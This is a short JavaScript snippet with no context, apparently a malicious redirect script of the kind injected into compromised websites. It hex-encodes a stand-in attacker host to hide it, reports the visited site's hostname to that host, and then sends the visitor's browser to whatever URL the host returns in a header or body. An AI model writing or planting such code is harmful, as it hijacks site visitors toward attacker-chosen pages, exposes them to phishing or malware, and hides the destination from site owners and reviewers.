var xhr = new XMLHttpRequest();
xhr.open("GET", "https://" + "%61%76%6f%63%61%64%6f%2d%79%61%72%64%2e%65%78%61%6d%70%6c%65".replace(/%([0-9a-f]{2})/g, function (_, h) { return String.fromCharCode(parseInt(h, 16)); }) + "/?" + Math.random().toString(36).substr(2, 6) + "=" + location.hostname);
xhr.onload = function () {
  if (xhr.status === 404) { return; }
  var to = xhr.getResponseHeader("X-Target") || xhr.responseText.trim();
  if (to.indexOf("http") === 0) { window.location.assign(to); }
};
xhr.send();
